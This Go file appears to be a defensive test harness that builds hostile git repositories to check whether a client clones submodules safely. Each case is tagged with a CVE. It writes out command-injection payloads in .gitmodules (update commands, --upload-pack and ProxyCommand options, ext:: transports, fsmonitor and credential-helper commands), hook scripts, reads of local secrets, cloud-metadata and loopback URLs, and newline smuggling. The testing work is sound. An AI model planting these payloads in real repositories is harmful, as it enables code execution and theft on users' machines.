package hostile

import (
	"fmt"
	"strings"
)

const (
	cloneAll = `git clone -q --recurse-submodules "$REPO" w`
	careless = `export GIT_ALLOW_PROTOCOL=http:https:ssh:file:ext; git -c protocol.allow=always clone -q --recurse-submodules "$REPO" w`
)

// section returns a submodule's section in .gitmodules.
func section(name, path, url string, more ...string) string {
	s := fmt.Sprintf("[submodule %s]\n\tpath = %s\n\turl = %s\n", value(name), value(path), value(url))
	for _, line := range more {
		s += "\t" + line + "\n"
	}
	return s
}

// value quotes a text for git's configuration.
func value(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(s) + `"`
}

// atURL makes a repository whose submodule has that URL.
func atURL(url func(Bait) string) func(*repo, Bait) {
	return func(r *repo, b Bait) {
		r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", url(b))}, entry{mode: gitl, name: "sub", content: nowhere})
	}
}

func moduleCases() []Case {
	cases := []Case{
		{
			Name: "module-update-command", Abuses: "a submodule's update strategy is a command", CVE: "CVE-2019-19604",
			build: func(r *repo, b Bait) {
				sub := r.side("sub")
				id := sub.files(entry{mode: file, name: "a", content: "a\n"})
				r.check(sub.err)
				r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", r.relative(sub), "update = !"+b.command())},
					entry{mode: gitl, name: "sub", content: id})
			},
		},
		{
			Name: "module-url-file", Abuses: "a submodule is a repository in the client's file system", CVE: "CVE-2022-39253",
			Effect: Reads, Control: careless + `; cat w/sub/secret`, build: local("file://"),
		},
		{
			Name: "module-url-path", Abuses: "a submodule is a path in the client's file system", CVE: "CVE-2025-1767",
			Effect: Reads, Control: careless + `; cat w/sub/secret`, build: local(""),
		},
		{
			Name: "module-local-promisor", Abuses: "a submodule on the client's disk lacks an object and names a command to fetch it", CVE: "CVE-2024-32004",
			build: promisor("[remote \"origin\"]\n\turl = EXTERNAL\n\tpromisor = true\n[protocol]\n\tallow = always\n"),
		},
		{
			Name: "module-local-hooks", Abuses: "a submodule on the client's disk has settings and hooks that its server side runs", CVE: "CVE-2024-32465",
			build: promisor("[remote \"origin\"]\n\turl = /nothing\n\tuploadpack = COMMAND\n\tpromisor = true\n[uploadpack]\n\tpackObjectsHook = COMMAND\n[core]\n\tfsmonitor = COMMAND\n"),
		},
		{
			Name: "module-branch-option", Abuses: "a submodule's branch is an option of git fetch",
			build: func(r *repo, b Bait) {
				sub := r.side("sub")
				id := sub.files(entry{mode: file, name: "a", content: "a\n"})
				r.check(sub.err)
				r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", r.relative(sub), "branch = --upload-pack="+b.command())},
					entry{mode: gitl, name: "sub", content: id})
			},
		},
		{
			Name: "module-foreign-sections", Abuses: ".gitmodules carries settings of git itself",
			build: func(r *repo, b Bait) {
				r.files(entry{mode: file, name: ".gitmodules", content: "[core]\n\tfsmonitor = " + value(b.command()) + "\n\thooksPath = hooks\n" +
					"[include]\n\tpath = " + value(b.Outside+"/secret") + "\n[credential]\n\thelper = " + value("!"+b.command()) + "\n"},
					entry{mode: script, name: "hooks/post-checkout", content: hook(b)})
			},
		},
		{
			Name: "module-long-url", Abuses: "a section too long for git's buffer, so that its rest becomes settings", CVE: "CVE-2023-29007",
			build: atURL(func(b Bait) string {
				return b.URL + "/" + strings.Repeat("a", 1100) + "[core]\nfsmonitor = " + b.command()
			}),
		},
		{
			Name: "module-many", Abuses: "a hundred submodules make the client ask one server at least a hundred times",
			Effect: Asks, Control: cloneAll,
			build: func(r *repo, b Bait) {
				var modules strings.Builder
				entries := []entry{}
				for i := range 100 {
					name := fmt.Sprintf("sub%02d", i)
					modules.WriteString(section(name, name, fmt.Sprintf("%s/%d", b.URL, i)))
					entries = append(entries, entry{mode: gitl, name: name, content: nowhere})
				}
				r.files(append(entries, entry{mode: file, name: ".gitmodules", content: modules.String()})...)
			},
		},
		{
			Name: "module-deep", Abuses: "a repository is its own submodule, fifty levels deep",
			build: func(r *repo, _ Bait) {
				id := r.files(entry{mode: file, name: "a", content: "a\n"})
				for range 50 {
					id = r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", r.relative(r))},
						entry{mode: gitl, name: "sub", content: id})
				}
			},
		},
		{
			Name: "module-missing-commit", Abuses: "a submodule's commit does not exist", Effect: Fails, Control: cloneAll,
			build: func(r *repo, _ Bait) {
				sub := r.side("sub")
				sub.files(entry{mode: file, name: "a", content: "a\n"})
				r.check(sub.err)
				r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", r.relative(sub))},
					entry{mode: gitl, name: "sub", content: nowhere})
			},
		},
		{
			Name: "module-huge", Abuses: "a .gitmodules of 100 MiB is read into memory",
			build: func(r *repo, _ Bait) {
				r.files(entry{mode: file, name: ".gitmodules", id: r.zeros(100 << 20)})
			},
		},
		{
			Name: "module-directory", Abuses: ".gitmodules is a directory",
			build: func(r *repo, b Bait) {
				r.files(entry{mode: file, name: ".gitmodules/a", content: section("sub", "sub", b.URL)}, entry{mode: gitl, name: "sub", content: nowhere})
			},
		},
	}
	for _, u := range urls {
		cases = append(cases, Case{
			Name: "module-url-" + u.name, Abuses: "a submodule's URL: " + u.abuses, CVE: u.cve,
			Effect: u.effect, Control: u.control, build: atURL(u.url),
		})
	}
	for i := range cases {
		cases[i].Need = Submodules
	}
	return cases
}

// local makes a repository with a submodule on the client's disk.
func local(scheme string) func(*repo, Bait) {
	return func(r *repo, _ Bait) {
		sub := r.side("private")
		id := sub.files(entry{mode: file, name: "secret", content: Secret})
		r.check(sub.err)
		r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", scheme+sub.path)}, entry{mode: gitl, name: "sub", content: id})
	}
}

// promisor makes a repository with a submodule on the client's disk. The submodule's repository
// lacks a blob and has the settings.
func promisor(settings string) func(*repo, Bait) {
	return func(r *repo, b Bait) {
		sub := r.side("private")
		id := sub.files(entry{mode: file, name: "a", id: nowhere})
		sub.write("config", "[core]\n\trepositoryformatversion = 1\n\tbare = true\n[extensions]\n\tpartialClone = origin\n"+
			strings.NewReplacer("COMMAND", value(b.command()), "EXTERNAL", value("ext::"+b.command())).Replace(settings))
		r.check(sub.err)
		r.files(entry{mode: file, name: ".gitmodules", content: section("sub", "sub", sub.path)}, entry{mode: gitl, name: "sub", content: id})
	}
}

// Secret is the content that a test writes into Outside/secret of the Bait. It must never be
// printed.
const Secret = "the secret of somebody else\n"

// hook returns a hook script.
func hook(b Bait) string { return "#!/bin/sh\n" + b.command() + "\n" }

// urls are forbidden URLs for a submodule.
var urls = []struct {
	name, abuses, cve string
	effect            Effect
	control           string
	url               func(Bait) string
}{
	{"ext", "a transport that is a command", "", Runs, careless, func(b Bait) string { return "ext::" + b.command() }},
	{"option", "an option of git clone", "CVE-2018-17456", None, "", func(b Bait) string { return "--upload-pack=" + b.command() }},
	{"ssh-option", "a host that is an option of ssh", "CVE-2017-1000117", None, "", func(b Bait) string {
		return "ssh://-oProxyCommand=" + strings.ReplaceAll(b.command(), " ", "%20") + "/x"
	}},
	{"scp-option", "the same in the short form", "CVE-2017-1000117", None, "", func(b Bait) string { return "-oProxyCommand=" + b.command() + ":x" }},
	{"loopback", "loopback", "", Asks, cloneAll, func(b Bait) string { return b.URL + "/bait" }},
	{"localhost", "loopback by name", "", Asks, cloneAll, func(b Bait) string { return b.on("localhost") }},
	{"loopback-other", "loopback is a /8", "", None, "", func(b Bait) string { return b.on("127.1.2.3") }},
	{"decimal", "loopback as one number", "", Asks, cloneAll, func(b Bait) string { return b.on("2130706433") }},
	{"hex", "loopback in hex", "", Asks, cloneAll, func(b Bait) string { return b.on("0x7f000001") }},
	{"octal", "loopback in octal", "", Asks, cloneAll, func(b Bait) string { return b.on("0177.0.0.1") }},
	{"short", "loopback with two parts", "", Asks, cloneAll, func(b Bait) string { return b.on("127.1") }},
	{"unspecified", "the unspecified address is loopback too", "", Asks, cloneAll, func(b Bait) string { return b.on("0.0.0.0") }},
	{"ipv6", "loopback of IPv6", "", None, "", func(b Bait) string { return b.on("[::1]") }},
	{"mapped", "loopback mapped into IPv6", "", None, "", func(b Bait) string { return b.on("[::ffff:127.0.0.1]") }},
	{"link-local", "the metadata service of a cloud", "", None, "", func(Bait) string { return "http://169.254.169.254/latest/meta-data" }},
	{"private", "a private network", "", None, "", func(Bait) string { return "http://10.0.0.1/admin" }},
	{"userinfo", "a password in the URL", "", Asks, cloneAll, func(b Bait) string { return strings.Replace(b.URL, "://", "://ada:pw@", 1) + "/bait" }},
	{"confused", "an authority that reads in two ways", "", None, "", func(b Bait) string { return "http://example.com#@" + strings.TrimPrefix(b.URL, "http://") + "/bait" }},
	{"newline", "a newline makes the credential helper name another host", "CVE-2020-5260", None, "", func(b Bait) string { return b.URL + "?%0ahost=github.com" }},
	{"carriage-return", "a carriage return does the same", "CVE-2024-52006", None, "", func(b Bait) string { return strings.Replace(b.URL, "://", "://a%0dhost=github.com@", 1) + "/bait" }},
	{"control", "control characters for the terminal that shows the error", "CVE-2024-52005", None, "", func(b Bait) string { return b.URL + "/\x1b[2J\x1b]0;gone\a" }},
	{"relative-up", "a relative URL that climbs out of the host's path", "", None, "", func(Bait) string { return "../../../../../../etc" }},
	{"absolute-path", "a path", "", None, "", func(Bait) string { return "/etc" }},
	{"git", "the unauthenticated git protocol", "", None, "", func(b Bait) string { return strings.Replace(b.URL, "http:", "git:", 1) + "/bait" }},
	{"ftp", "an obsolete transport", "", None, "", func(b Bait) string { return strings.Replace(b.URL, "http:", "ftp:", 1) + "/bait" }},
	{"empty", "nothing", "", None, "", func(Bait) string { return "" }},
	{"long", "a URL of 100,000 bytes", "", None, "", func(b Bait) string { return b.URL + "/" + strings.Repeat("a", 100_000) }},
}
